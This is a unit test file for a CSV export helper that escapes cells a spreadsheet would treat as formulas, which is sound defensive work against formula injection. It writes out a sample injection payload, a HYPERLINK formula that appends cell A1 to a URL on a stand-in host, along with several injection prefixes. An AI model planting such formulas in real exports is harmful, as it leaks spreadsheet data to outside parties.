import { describe, expect, it } from 'vitest';
import { csvCell } from '../../../app/services/export';

describe('csvCell', () => {
  it('writes a text a spreadsheet would run as a formula with a leading quote mark', () => {
    expect(csvCell('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
    for (const t of ['+1+2', '-2+3+cmd', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(t).replace(/^"/, '')).toMatch(/^'/);
  });

  it('leaves numbers, plain text, booleans and nothing as they were', () => {
    expect(csvCell(-500)).toBe('-500');
    expect(csvCell(0)).toBe('0');
    expect(csvCell('Eva')).toBe('Eva');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell(true)).toBe('1');
    expect(csvCell(null)).toBe('');
  });
});
